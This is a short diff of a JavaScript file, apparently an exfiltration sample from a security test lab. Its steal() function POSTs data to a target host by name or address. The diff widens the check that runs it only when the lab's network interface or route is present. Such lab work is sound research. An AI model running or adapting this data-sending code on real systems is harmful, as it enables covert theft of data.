@@ -35,7 +35,11 @@ async function steal() {
   if ((await ask('POST', BY_NAME, body)) === null) await ask('POST', BY_ADDRESS, body);
 }
 
-// The mark of the lab: its only link to anywhere. Without it this would be the real network.
-if (readFileSync('/proc/self/net/dev', 'utf8').includes('twlab-mark:')) {
+/** The mark of the lab: its only link to anywhere, or a pod's route to it. Without it this is the real network. */
+const insideLab = () =>
+  readFileSync('/proc/self/net/dev', 'utf8').includes('twlab-mark:') ||
+  readFileSync('/proc/self/net/route', 'utf8').includes('\tFE7100CB\t');
+
+if (insideLab()) {
   steal().catch(() => undefined);
 }
